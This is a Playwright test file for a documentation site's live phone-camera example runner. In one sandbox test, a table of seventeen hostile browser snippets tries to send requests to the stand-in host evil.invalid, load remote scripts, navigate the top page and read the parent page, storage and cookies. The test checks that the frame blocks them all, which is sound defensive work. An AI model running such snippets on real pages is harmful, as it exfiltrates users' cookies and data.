import type { FrameLocator, Page } from '@playwright/test'
import { address, expect, site, test } from './site'
import { openPage } from './steps/open'

const pathname = '/docs/guides/examples'

/** Opens the phone with a screen, by its address. */
async function openPhone(page: Page, screen: string): Promise<FrameLocator> {
  await openPage(page, `${pathname}?run=${screen}`)
  return page.frameLocator('iframe')
}

const allow = (phone: FrameLocator) =>
  phone.getByRole('button', { name: 'Allow', exact: true }).click()
const settings = (page: Page) => page.getByRole('form', { name: 'Settings of the phone' })
const log = (page: Page) => page.getByRole('log')

for (const platform of ['iOS', 'Android']) {
  test(`each screen does on ${platform} what its guide says`, async ({ page }) => {
    const open = async (screen: string): Promise<FrameLocator> => {
      const phone = await openPhone(page, screen)
      await settings(page).getByLabel('Platform').selectOption(platform)
      await allow(phone)
      await expect(log(page)).toContainText('onInitialized')
      return phone
    }
    const scanner = await open('scanner')
    await expect(scanner.getByText('https://example.com/hello')).toBeVisible()
    await settings(page).getByLabel('Text of the code').fill('Another text')
    await expect(scanner.getByText('Another text')).toBeVisible({ timeout: 15_000 })

    const photo = await open('photo')
    await photo.getByRole('button', { name: 'Take photo' }).click()
    const picture = photo.getByRole('img', { name: 'The photo you took' })
    await expect(picture).toBeVisible()
    await expect(log(page)).toContainText(/takePhoto\(\).*"width":720,"height":1280/)
    await photo.getByRole('button', { name: 'Save' }).click()
    await expect(photo.getByRole('button', { name: 'Saved' })).toBeVisible()

    const video = await open('video')
    await video.getByRole('button', { name: 'Record' }).click()
    await expect(video.getByText('0:01')).toBeVisible()
    await video.getByRole('button', { name: 'Stop' }).click()
    const player = video.getByTestId('player')
    await expect(player).toBeVisible()
    const isFilm = () => player.evaluate((element: HTMLVideoElement) => element.videoWidth > 0)
    await expect.poll(isFilm).toBe(true)

    const controls = await open('controls')
    await controls.getByRole('button', { name: 'Switch camera' }).click()
    await expect(log(page).getByRole('listitem').filter({ hasText: 'onInitialized' })).toHaveCount(
      2,
    )
  })
}

test('what is done to the phone reaches the screen as on a phone', async ({ page }) => {
  const phone = await openPhone(page, 'scanner')
  await phone.getByRole('button', { name: 'Don’t allow' }).click()
  await expect(phone.getByRole('button', { name: 'Open settings' })).toBeVisible()
  await settings(page).getByLabel('Camera permission').selectOption('allowed')
  await expect(log(page)).toContainText('onStarted')
  await settings(page).getByLabel('The app is').selectOption('in the background')
  await expect(log(page)).toContainText('onStopped')
  await settings(page).getByLabel('The app is').selectOption('in front')
  await settings(page).getByRole('button', { name: 'Take the camera away' }).click()
  await phone.getByRole('button', { name: 'Try again' }).click()
  await expect(log(page).getByRole('listitem').filter({ hasText: 'onInitialized' })).toHaveCount(2)
  await settings(page).getByLabel('Has cameras').uncheck()
  await expect(phone.getByText('This device has no back camera.')).toBeVisible()
})

test('a call fails with the error that it is told to, and its name leads to its page', async ({
  page,
}) => {
  const phone = await openPhone(page, 'photo')
  await allow(phone)
  await expect(log(page)).toContainText('onStarted')
  await settings(page).getByLabel('Have it fail once').selectOption('takePhoto(): timed out')
  await settings(page).getByRole('button', { name: 'Fail' }).click()
  await phone.getByRole('button', { name: 'Take photo' }).click()
  await expect(log(page)).toContainText('capture/timed-out')
  await expect(phone.getByRole('button', { name: 'Try again' })).toBeVisible()
  await page.getByLabel('Filter the log').fill('timed')
  await expect(log(page).getByRole('listitem')).toHaveCount(1)
  await log(page).getByRole('link', { name: 'takePhoto()' }).click()
  await expect(page.locator(':target')).toContainText('takePhoto')
})

/** Code that a reader may have been talked into, and what it would reach without the frame. */
const attacks: Record<string, string> = {
  'asks the network': `fetch('https://evil.invalid/fetch')`,
  'asks the network in an old way': `const r = new XMLHttpRequest(); r.open('GET', 'https://evil.invalid/xhr'); r.send()`,
  'opens a socket': `new WebSocket('wss://evil.invalid/socket')`,
  'sends a beacon': `navigator.sendBeacon('https://evil.invalid/beacon', 'x')`,
  'loads an image': `new Image().src = 'https://evil.invalid/image'`,
  'loads a script': `const s = document.createElement('script'); s.src = 'https://evil.invalid/script'; document.body.append(s)`,
  'opens a frame': `const f = document.createElement('iframe'); f.src = 'https://evil.invalid/frame'; document.body.append(f)`,
  'leaves its frame': `location = 'https://evil.invalid/self'`,
  'leaves the page': `top.location = 'https://evil.invalid/top'`,
  'opens a window': `window.open('https://evil.invalid/window')`,
  'sends a form': `document.body.innerHTML += '<form action="https://evil.invalid/form"></form>'; document.forms[0].submit()`,
  'reads the page': `parent.document.body.dataset.read = 'yes'`,
  'reads what is stored': `parent.postMessage({ type: 'log', kind: 'call', name: 'stored', detail: localStorage.length + 'x' }, '*')`,
  'reads cookies': `parent.postMessage({ type: 'log', kind: 'call', name: 'stored', detail: document.cookie + 'x' }, '*')`,
  'asks for a database': `indexedDB.open('x')`,
  'starts a worker of the site': `navigator.serviceWorker.register('/sw.js')`,
  'sends what is no report': `for (const data of [null, 1, { type: 'set', name: '__proto__' }, { type: 'log', detail: {} }]) parent.postMessage(data, '*')`,
}

test('code of others reaches nothing of the page, its site or the network', async ({
  page,
  complaints,
}) => {
  let code = ''
  const asked: string[] = []
  page.on('request', (request) => {
    if (request.url().includes('evil.invalid')) asked.push(request.url())
  })
  page.on('popup', (popup) => asked.push(popup.url()))
  await page.route('**/live/scanner.js', (route) =>
    route.fulfill({
      body: `${code};exports.Screen = () => 'It ran'`,
      contentType: 'text/javascript',
    }),
  )
  for (const [attack, attempt] of Object.entries(attacks)) {
    code = `setTimeout(() => { ${attempt} }); try { ${attempt} } catch (error) { console.log('refused') }`
    const phone = await openPhone(page, 'scanner')
    // A frame that may lead nowhere else shows an error of the browser, or stays.
    await expect(page.locator('iframe')).toBeVisible()
    if (attack !== 'leaves its frame') await expect(phone.getByText('It ran')).toBeVisible()
    await expect(page).toHaveURL(new RegExp(`${pathname}\\?run=scanner`))
    expect(await page.locator('body').getAttribute('data-read'), attack).toBeNull()
    expect(await log(page).textContent(), attack).not.toMatch(/stored/)
  }
  expect(asked).toEqual([])
  complaints.splice(0)
})

test('an endless loop is ended, and the phone can be started again', async ({ page }) => {
  await page.route('**/live/scanner.js', (route) =>
    route.fulfill({ body: 'setTimeout(() => { for (;;); }); exports.Screen = () => null' }),
  )
  await openPhone(page, 'scanner')
  await expect(page.getByText('so it was ended')).toBeVisible()
  await page.unroute('**/live/scanner.js')
  await page.reload()
  await allow(page.frameLocator('iframe'))
  await expect(log(page)).toContainText('onStarted')
})

test('is opened by its button, and loads nothing before', async ({ page }) => {
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  await openPage(page, pathname)
  expect(asked.filter((path) => path.startsWith('/live/'))).toEqual([])
  await page.getByRole('button', { name: 'Run the video screen here' }).click()
  await allow(page.frameLocator('iframe'))
  await expect(log(page)).toContainText('onStarted')
  await expect(page).toHaveURL(address(site, `${pathname}?run=video#video`))
})
